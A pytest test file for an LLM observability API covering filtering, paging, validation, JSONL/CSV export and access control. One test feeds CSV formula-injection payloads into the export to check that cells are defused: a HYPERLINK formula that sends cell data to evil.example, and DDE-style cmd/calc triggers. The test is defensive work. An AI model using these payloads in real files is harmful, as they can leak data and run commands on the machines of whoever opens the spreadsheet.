"""The LLM JSON API and its export, in process, on stored ``$ai_*`` events.

Lists, filters and cursors; a generation with its payloads; a trace with its
tree and linked errors; sessions, a user's usage, the dashboard; JSONL and
CSV exports streamed a page at a time (CSV cells defused against formula
injection); every bad parameter a 400 with a reason; who may read.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from starlette.testclient import TestClient

from heliograph.api import llm_export
from heliograph.app import create_app
from heliograph.bootstrap import ensure_defaults
from heliograph.config import Settings
from heliograph.digest.scores import event_score
from heliograph.model import Event
from heliograph.runtime import Runtime
from heliograph.store.base import DigestBatch, Project
from tests.accounts import PASSWORD, make_user
from tests.contract.builders import ai_event, error

LLM = "/api/0/projects/default/default/llm/"
NOW = time.time()
# A price no decimal rounding survives: the API must give it back bit for bit.
ODD_COST = 0.1 + 0.2 + 1e-17 * 3 + 1.2345678901234567e-07


@dataclass
class Api:
    client: TestClient
    runtime: Runtime
    project: Project

    def record(self, *events: Event) -> None:
        # As digest does: score events (``$ai_metric``, ``$ai_feedback``) give scores too.
        scores = [score for event in events if (score := event_score(event))]
        result = self.runtime.store.record(DigestBatch(analytics=list(events), scores=scores))
        assert result.rejected == ()

    def get(self, path: str, **params: Any) -> Any:
        response = self.client.get(LLM + path, params=params)
        assert response.status_code == 200, response.text
        return response.json()


@pytest.fixture
def api(tmp_path: Path) -> Iterator[Api]:
    settings = Settings(data_dir=tmp_path / "data")
    runtime = Runtime(settings)
    try:
        welcome = ensure_defaults(runtime.store, settings.base_url)
        client = TestClient(create_app(settings, runtime), base_url="http://testserver")
        client.headers["Authorization"] = f"Bearer {welcome.api_token}"
        project = runtime.store.get_project("default", "default")
        assert project is not None
        yield Api(client, runtime, project)
    finally:
        runtime.close()


def next_cursor(link: str) -> str | None:
    """The cursor of the ``Link`` header's rel="next" while it has results."""
    for part in link.split(", "):
        if 'rel="next"' in part and 'results="true"' in part:
            return part.split('cursor="')[1].rstrip('"')
    return None


def walk(api: Api, path: str, **params: Any) -> list[dict[str, Any]]:
    """Every item of a list, following its cursors."""
    found: list[dict[str, Any]] = []
    cursor: str | None = None
    while True:
        response = api.client.get(
            LLM + path, params={**params, **({"cursor": cursor} if cursor else {})}
        )
        assert response.status_code == 200, response.text
        found += response.json()
        cursor = next_cursor(response.headers["link"])
        if cursor is None:
            return found


def test_generations_filter_and_page_newest_first(api: Api) -> None:
    pid = api.project.id
    calls = [
        ai_event(pid, trace=f"t{n % 3}", at=NOW - 600 + n, model="a" if n < 5 else "b",
                 session="s-1" if n % 2 else None, distinct_id=f"u{n % 2}",
                 environment="prod" if n < 8 else "staging", release=f"1.{n % 2}")
        for n in range(10)
    ]  # fmt: skip
    failed = ai_event(pid, trace="t9", at=NOW - 500, is_error=True, provider="anthropic")
    old = ai_event(pid, trace="t8", at=NOW - 3 * 86400)
    span = ai_event(pid, "$ai_span", trace="t0", at=NOW - 400)
    api.record(*calls, failed, old, span)

    def ids(**params: Any) -> list[str]:
        return [g["id"] for g in walk(api, "generations/", **params)]

    newest_first = [failed.event_id] + [c.event_id for c in reversed(calls)] + [old.event_id]
    assert ids() == newest_first  # spans are not generations
    assert ids(limit=3) == newest_first
    assert ids(model="b") == [c.event_id for c in reversed(calls[5:])]
    assert ids(provider="anthropic") == ids(errors="true") == [failed.event_id]
    assert ids(user="u1", session="s-1") == [
        c.event_id for c in reversed(calls) if calls.index(c) % 2
    ]
    assert ids(trace="t1", model="a") == [calls[4].event_id, calls[1].event_id]
    assert ids(environment="staging") == [calls[9].event_id, calls[8].event_id]
    assert ids(release="1.0", environment="prod", model="b") == [calls[6].event_id]
    assert ids(range="1d") == newest_first[:-1]
    assert ids(since=NOW - 600 + 2, until=NOW - 600 + 4) == [calls[3].event_id, calls[2].event_id]
    iso_since = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(NOW - 86400))
    assert ids(since=iso_since) == newest_first[:-1]

    [first] = api.get("generations/", limit=1, errors="1")
    assert first["isError"] is True and first["error"] == "rate limited"
    assert first["provider"] == "anthropic" and first["traceId"] == "t9"
    assert first["timestamp"].endswith("Z") and first["latency"] == 2.0


def test_cost_keeps_full_precision_and_unknown_is_null(api: Api) -> None:
    priced = ai_event(api.project.id, trace="p", at=NOW - 10, cost=ODD_COST)
    unpriced = ai_event(api.project.id, trace="p", at=NOW - 5, cost=None)
    api.record(priced, unpriced)
    by_id = {g["id"]: g for g in api.get("generations/")}
    assert by_id[priced.event_id]["totalCostUsd"] == ODD_COST
    assert by_id[unpriced.event_id]["totalCostUsd"] is None
    [trace] = api.get("traces/")
    assert (trace["costUsd"], trace["unpriced"]) == (ODD_COST, 1)
    api.record(ai_event(api.project.id, trace="free", at=NOW - 1, cost=None))
    assert api.get("traces/", limit=1)[0]["costUsd"] is None  # unknown, not $0
    lines = api.client.get(LLM + "export/").text.splitlines()
    assert orjson.loads(lines[-1])["totalCostUsd"] == ODD_COST
    rows = list(csv.DictReader(io.StringIO(api.client.get(LLM + "export/?format=csv").text)))
    assert float(rows[-1]["total_cost_usd"]) == ODD_COST and rows[-2]["total_cost_usd"] == ""


def test_a_generation_with_its_payloads_and_trace(api: Api) -> None:
    call = ai_event(api.project.id, trace="tr", at=NOW - 30, span_name="answer")
    call.properties.update(
        {"$ai_input": [{"role": "user", "content": "Hi <b>"}], "$ai_output_choices": ["Hello"],
         "$ai_input_cost_usd": 0.004, "custom": {"nested": [1, 2]}}
    )  # fmt: skip
    api.record(call)
    found = api.get(f"generations/{call.event_id}/")
    assert found["id"] == call.event_id and found["spanName"] == "answer"
    assert found["properties"]["$ai_input"] == [{"role": "user", "content": "Hi <b>"}]
    assert found["properties"]["custom"] == {"nested": [1, 2]}
    assert found["inputCostUsd"] == 0.004 and found["payloadsDropped"] is False
    assert found["trace"]["traceId"] == "tr"
    dashed = f"{call.event_id[:8]}-{call.event_id[8:12]}-{call.event_id[12:16]}-" + (
        f"{call.event_id[16:20]}-{call.event_id[20:]}"
    )
    assert api.get(f"generations/{dashed.upper()}/")["id"] == call.event_id
    for missing in ("0" * 32, "not-an-id", "%00"):
        response = api.client.get(f"{LLM}generations/{missing}/")
        assert response.status_code == 404
        assert response.json() == {"detail": "generation not found"}


def test_a_trace_with_its_tree_and_linked_errors(api: Api) -> None:
    pid = api.project.id
    root = ai_event(pid, "$ai_trace", trace="a/b", at=NOW - 60, latency=30.0, span_name="agent",
                    model=None, cost=None)  # fmt: skip
    root.properties["$ai_span_id"] = "root"
    step = ai_event(pid, "$ai_span", trace="a/b", at=NOW - 80, latency=5.0, span_name="search",
                    parent="a/b", cost=None)  # fmt: skip
    step.properties["$ai_span_id"] = "step"
    inner = ai_event(pid, trace="a/b", at=NOW - 76, parent="step", cost=0.5, latency=1.0)
    lost = ai_event(pid, trace="a/b", at=NOW - 70, parent="gone", is_error=True, cost=None)
    metric = ai_event(pid, "$ai_metric", trace="a/b", at=NOW - 10, cost=None, model=None)
    metric.properties.update({"$ai_metric_name": "helpful", "$ai_metric_value": 1})
    feedback = ai_event(pid, "$ai_feedback", trace="a/b", at=NOW - 5, cost=None, model=None)
    feedback.properties.update({"$ai_feedback_text": "spot on", "$ai_span_id": "step"})
    api.record(root, step, inner, lost, metric, feedback)
    crash = error(pid, "g1", at=NOW - 65, trace_id="a/b", title="KeyError: 'answer'")
    api.runtime.store.record(DigestBatch(errors=[crash]))

    found = api.get("traces/a/b/")  # trace ids may hold a slash
    assert (found["traceId"], found["name"], found["hasTraceEvent"]) == ("a/b", "agent", True)
    assert (found["generations"], found["errors"], found["costUsd"]) == (2, 1, 0.5)
    nodes = {n["label"]: n for n in found["nodes"]}
    assert found["nodes"][0]["key"] == root.event_id and found["nodes"][0]["parent"] is None
    assert nodes["search"]["parent"] == root.event_id
    assert nodes["search"]["children"] == [inner.event_id]
    by_key = {n["key"]: n for n in found["nodes"]}
    assert by_key[inner.event_id]["parent"] == step.event_id
    assert by_key[inner.event_id]["depth"] == 2 and by_key[inner.event_id]["costUsd"] == 0.5
    assert by_key[lost.event_id]["orphan"] is True and by_key[lost.event_id]["isError"] is True
    assert by_key[lost.event_id]["costUsd"] is None and by_key[lost.event_id]["unpriced"] == 1
    assert nodes["search"]["costUsd"] == 0.5 and nodes["search"]["generations"] == 1
    assert found["orphans"] == 1 and found["truncated"] is False
    [linked] = found["linkedErrors"]
    assert linked["eventId"] == crash.event.event_id and linked["title"] == "KeyError: 'answer'"
    assert linked["issueId"] is not None
    scores = {score["name"]: score for score in found["scores"]}
    assert (scores["helpful"]["value"], scores["helpful"]["source"]) == (1.0, "sdk")
    feedback = scores["feedback"]
    assert (feedback["comment"], feedback["observationId"], feedback["source"]) == (
        "spot on",
        "step",
        "feedback",
    )
    assert (feedback["dataType"], feedback["stringValue"]) == ("CATEGORICAL", "comment")

    assert [t["traceId"] for t in api.get("traces/", errors="1")] == ["a/b"]
    assert api.client.get(LLM + "traces/nope/").status_code == 404


def test_traces_filter_and_page(api: Api) -> None:
    pid = api.project.id
    api.record(
        *[
            ai_event(pid, trace=f"t{n}", at=NOW - 100 + n, session="s" if n < 3 else None,
                     distinct_id=f"u{n % 2}", environment="prod" if n else "dev", release="9")
            for n in range(6)
        ]
    )  # fmt: skip

    def ids(**params: Any) -> list[str]:
        return [t["traceId"] for t in walk(api, "traces/", **params)]

    assert ids(limit=4) == ["t5", "t4", "t3", "t2", "t1", "t0"]
    assert ids(session="s", user="u0") == ["t2", "t0"]
    assert ids(environment="dev", release="9") == ["t0"]
    assert ids(range="1h", limit=1) == ["t5", "t4", "t3", "t2", "t1", "t0"]


def test_sessions_and_one_session(api: Api) -> None:
    pid = api.project.id
    api.record(
        ai_event(pid, trace="x1", at=NOW - 300, session="chat-1", cost=0.25),
        ai_event(pid, trace="x2", at=NOW - 200, session="chat-1", cost=None, is_error=True),
        ai_event(pid, trace="y1", at=NOW - 100, session="chat/2", cost=0.5),
        ai_event(pid, trace="old", at=NOW - 9 * 86400, session="chat-0"),
    )
    assert [s["sessionId"] for s in walk(api, "sessions/", limit=1)] == ["chat/2", "chat-1"]
    assert [s["sessionId"] for s in api.get("sessions/", range="30d")][-1] == "chat-0"
    one = api.get("sessions/chat-1/")
    assert (one["traces"], one["generations"], one["errors"]) == (2, 2, 1)
    assert (one["costUsd"], one["unpriced"], one["truncated"]) == (0.25, 1, False)
    assert [t["traceId"] for t in one["traceList"]] == ["x2", "x1"]
    assert api.get("sessions/chat/2/")["traces"] == 1
    assert api.client.get(LLM + "sessions/nope/").status_code == 404


def test_a_users_usage(api: Api) -> None:
    pid = api.project.id
    api.record(
        ai_event(pid, trace="a", at=NOW - 60, distinct_id="ann@x", cost=0.5, model="m1"),
        ai_event(pid, trace="b", at=NOW - 50, distinct_id="ann@x", cost=None, model="m2"),
        ai_event(pid, trace="c", at=NOW - 40 * 86400, distinct_id="old-user"),
    )
    ann = api.get("users/ann@x/")
    assert (ann["requests"], ann["costUsd"], ann["unpriced"]) == (2, 0.5, 1)
    assert {m["model"]: m["requests"] for m in ann["models"]} == {"m1": 1, "m2": 1}
    old = api.get("users/old-user/")  # no calls in 30 days: zeros, not a 404
    assert (old["requests"], old["costUsd"]) == (0, None)
    assert api.get("users/old-user/", range="60d")["requests"] == 1
    assert api.client.get(LLM + "users/nobody/").status_code == 404


def test_spend_per_user_and_by_any_property(api: Api) -> None:
    pid = api.project.id
    calls = [("ann", "gold", 0.5), ("ann", "gold", None), ("bob", "free", 0.01)]
    events = []
    for n, (user, tier, cost) in enumerate(calls):
        event = ai_event(pid, trace=f"p{n}", at=NOW - 60 + n, distinct_id=user, cost=cost)
        event.properties["customer_tier"] = tier
        events.append(event)
    api.record(*events)
    users = api.client.get(LLM + "users/")
    assert users.status_code == 200 and users.headers["X-Complete"] == "true"
    assert [(u["distinctId"], u["calls"], u["costUsd"], u["unpriced"]) for u in users.json()] == [
        ("ann", 2, 0.5, 1),
        ("bob", 1, 0.01, 0),
    ]
    tiers = api.get("breakdown/", prop="customer_tier")
    assert [(t["value"], t["calls"]) for t in tiers] == [("gold", 2), ("free", 1)]
    assert [m["value"] for m in api.get("breakdown/", by="model")] == ["gpt-4o-mini"]
    assert api.get("breakdown/") == api.get("breakdown/", by="model")  # by model by default
    assert api.get("users/", range="1h", limit="1")[0]["distinctId"] == "ann"
    for params, reason in (
        ({"by": "model", "prop": "x"}, "not both"),
        ({"by": "password"}, "by must be one of"),
        ({"by": "model", "user": "ann"}, "user does not filter a breakdown"),
    ):
        response = api.client.get(LLM + "breakdown/", params=params)
        assert response.status_code == 400 and reason in response.json()["detail"]


def test_the_dashboards_figures(api: Api) -> None:
    pid = api.project.id
    api.record(
        ai_event(pid, trace="a", at=NOW - 60, cost=0.25, model="big"),
        ai_event(pid, trace="b", at=NOW - 30, cost=0.75, model="small", is_error=True),
    )
    day = api.get("dashboard/")
    assert (day["range"], day["bucket"], len(day["series"])) == ("24h", "hour", 24)
    assert (day["totals"]["requests"], day["totals"]["errors"]) == (2, 1)
    assert day["totals"]["costUsd"] == 1.0 and day["totals"]["errorRate"] == 0.5
    assert sum(p["requests"] for p in day["series"]) == 2
    assert {m["model"]: m["costShare"] for m in day["models"]} == {"big": 25.0, "small": 75.0}
    assert [t["traceId"] for t in day["topTraces"]] == ["b", "a"]
    week = api.get("dashboard/", range="7d", bucket="day")
    assert (week["bucket"], len(week["series"])) == ("day", 7)
    assert api.get("dashboard/", flag="no-such-flag")["flagValues"] == []


@pytest.mark.parametrize(
    ("path", "params", "reason"),
    [
        ("generations/", {"since": "yesterday"}, "since must be Unix seconds or an ISO 8601"),
        ("generations/", {"until": "1e999"}, "until must be Unix seconds"),
        ("generations/", {"since": "-5"}, "between 1970 and 9999"),
        ("generations/", {"since": "99999999999999"}, "between 1970 and 9999"),
        ("generations/", {"since": "2026-02-30"}, "since must be"),
        ("generations/", {"since": "2026-11-02", "until": "2026-11-01"}, "before until"),
        ("generations/", {"range": "7d", "since": "2026-11-01"}, "not both"),
        ("generations/", {"range": "a week"}, "range must be hours or days"),
        ("generations/", {"range": "0h"}, "range must be hours or days"),
        ("generations/", {"errors": "maybe"}, "errors must be true or false"),
        ("generations/", {"limit": "0"}, "limit must be between 1 and 100"),
        ("generations/", {"limit": "x"}, "limit must be an integer"),
        ("generations/", {"cursor": "garbage"}, "invalid cursor"),
        ("generations/", {"cursor": "1:99999999999999999999"}, "invalid cursor"),
        ("generations/", {"model": "m" * 201}, "model is longer than 200"),
        ("traces/", {"provider": "openai"}, "provider does not filter traces"),
        ("traces/", {"cursor": "nan:1"}, "invalid cursor"),
        ("sessions/", {"until": "2026-11-01"}, "until does not filter sessions"),
        ("sessions/", {"user": "u"}, "user does not filter sessions"),
        ("sessions/", {"cursor": "x"}, "invalid cursor"),
        ("users/u/", {"model": "m"}, "model does not filter a user's usage"),
        ("dashboard/", {"range": "1y"}, "range must be one of 24h, 7d, 30d"),
        ("dashboard/", {"range": "30d", "bucket": "hour"}, "bucket must be day for range 30d"),
        ("dashboard/", {"since": "2026-11-01"}, "since does not filter the dashboard"),
        ("export/", {"format": "xlsx"}, "format must be one of jsonl, csv"),
        ("export/", {"kind": "spans"}, "kind must be one of generations, traces"),
        ("export/", {"limit": "100001"}, "limit must be a whole number from 1 to 100000"),
        ("export/", {"kind": "traces", "trace": "t"}, "trace does not filter traces"),
        ("export/", {"since": "soon"}, "since must be"),
    ],
)
def test_every_bad_parameter_is_a_400_saying_why(
    api: Api, path: str, params: dict[str, str], reason: str
) -> None:
    api.record(ai_event(api.project.id, trace="t", at=NOW - 5, distinct_id="u"))
    response = api.client.get(LLM + path, params=params)
    assert response.status_code == 400, response.text
    assert reason in response.json()["detail"]


def test_export_streams_page_by_page_through_the_cursor(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """1,234 rows, more than two of the store's pages: every row once, newest first,
    and never more than a page asked of the store at once."""
    pid = api.project.id
    calls = [ai_event(pid, trace=f"t{n % 7}", at=NOW - 5000 + n * 2) for n in range(1234)]
    api.record(*calls)
    asked: list[int] = []
    real = api.runtime.store.llm_events

    def spy(*args: Any, **kwargs: Any) -> Any:
        asked.append(kwargs["limit"])
        return real(*args, **kwargs)

    monkeypatch.setattr(api.runtime.store, "llm_events", spy)
    response = api.client.get(LLM + "export/")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="default-llm-generations-')
    assert disposition.endswith('.jsonl"')
    lines = response.text.splitlines()
    assert [orjson.loads(line)["id"] for line in lines] == [c.event_id for c in reversed(calls)]
    assert asked == [500, 500, 500] and llm_export.PAGE_ROWS == 500

    asked.clear()
    capped = api.client.get(LLM + "export/", params={"format": "csv", "limit": 1001})
    rows = list(csv.reader(io.StringIO(capped.text)))
    assert rows[0] == list(llm_export.GENERATION_COLUMNS)
    assert len(rows) == 1 + 1001 and asked == [500, 500, 1]
    assert [r[0] for r in rows[1:]] == [c.event_id for c in reversed(calls)][:1001]
    assert capped.headers["content-type"] == "text/csv; charset=utf-8"
    assert capped.headers["x-row-limit"] == "1001"

    traces = api.client.get(LLM + "export/", params={"kind": "traces", "format": "csv"})
    table = list(csv.DictReader(io.StringIO(traces.text)))
    assert sorted(r["trace_id"] for r in table) == [f"t{n}" for n in range(7)]
    assert list(table[0]) == list(llm_export.TRACE_COLUMNS)
    assert sum(int(r["generations"]) for r in table) == 1234
    narrow = api.client.get(LLM + "export/", params={"model": "none", "since": NOW - 10})
    assert narrow.status_code == 200 and narrow.text == ""


def test_pages_are_read_as_the_body_is_written() -> None:
    """The first page is read before the answer starts (its errors are the request's),
    each later one only when the stream reaches it."""
    reads: list[tuple[str | None, int]] = []

    def fetch(cursor: str | None, n: int) -> tuple[list[int], str | None]:
        reads.append((cursor, n))
        start = int(cursor or 0)
        return list(range(start, start + n)), str(start + n)

    export = llm_export._Export(fetch, lambda row: {"n": row}, ["n"], lambda row: [row])
    pages = export.pages(1200)
    assert reads == [(None, 500)]
    body = export.jsonl(pages)
    assert next(body).count(b"\n") == 500 and reads == [(None, 500)]
    assert next(body).count(b"\n") == 500 and reads[-1] == ("500", 500)
    assert next(body).count(b"\n") == 200 and reads[-1] == ("1000", 200)
    assert list(body) == []


def test_csv_cells_are_defused_and_escaped(api: Api) -> None:
    hostile = ai_event(
        api.project.id,
        trace='=HYPERLINK("http://evil.example/?"&A1,"click")',
        at=NOW - 5,
        model="+cmd|' /C calc'!A0",
        provider="-2+3",
        span_name='@SUM(1+1)*cmd|" /C calc"!A0',
        distinct_id='a,b "quoted"\nnew line',
        cost=-0.5,
    )
    hostile.properties["$ai_error"] = "\t=1+1"
    hostile.properties["$ai_is_error"] = True
    api.record(hostile)
    text = api.client.get(LLM + "export/", params={"format": "csv"}).text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["trace_id"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["model"] == "'+cmd|' /C calc'!A0"
    assert row["provider"] == "'-2+3"
    assert row["span_name"].startswith("'@SUM")
    assert row["distinct_id"] == 'a,b "quoted"\nnew line'  # quoted, kept whole
    assert row["error"] == "'\t=1+1"
    assert (row["total_cost_usd"], row["is_error"]) == ("-0.5", "true")  # a number stays one
    traces = api.client.get(LLM + "export/", params={"format": "csv", "kind": "traces"}).text
    [trace] = list(csv.DictReader(io.StringIO(traces)))
    assert trace["trace_id"].startswith("'=HYPERLINK")
    # JSON has no formulas: JSONL keeps the values exactly.
    [line] = api.client.get(LLM + "export/").text.splitlines()
    assert orjson.loads(line)["model"] == "+cmd|' /C calc'!A0"


def test_who_may_read(api: Api) -> None:
    store = api.runtime.store
    api.record(ai_event(api.project.id, trace="t", at=NOW - 5, session="s", distinct_id="u"))
    [call] = api.get("generations/")
    paths = ["generations/", f"generations/{call['id']}/", "traces/", "traces/t/", "sessions/",
             "sessions/s/", "users/u/", "dashboard/", "export/"]  # fmt: skip
    other = store.create_organization("other", "Other")
    outsider = make_user(store, "outsider@example.com", other.id, "owner")
    outsider_token = store.create_api_token(outsider.id, "t", "read write admin")
    default = store.get_organization("default")
    assert default is not None
    viewer = make_user(store, "viewer@example.com", default.id, "viewer")
    viewer_token = store.create_api_token(viewer.id, "t", "read")
    for path in paths:
        url = LLM + path
        anonymous = api.client.get(url, headers={"Authorization": ""})
        assert anonymous.status_code == 401, path
        stranger = api.client.get(url, headers={"Authorization": f"Bearer {outsider_token}"})
        assert stranger.status_code == 404 and stranger.json() == {"detail": "project not found"}
        assert api.client.get(url, headers={"Authorization": "Bearer nope"}).status_code == 401
        reader = api.client.get(url, headers={"Authorization": f"Bearer {viewer_token}"})
        assert reader.status_code == 200, (path, reader.text)
    # The browser's session cookie reads the API too.
    browser = TestClient(api.client.app, base_url="http://testserver")
    login = browser.post(
        "/login",
        data={"email": "viewer@example.com", "password": PASSWORD},
        follow_redirects=False,
    )
    assert login.status_code == 303
    assert browser.get(LLM + "generations/").json()[0]["id"] == call["id"]
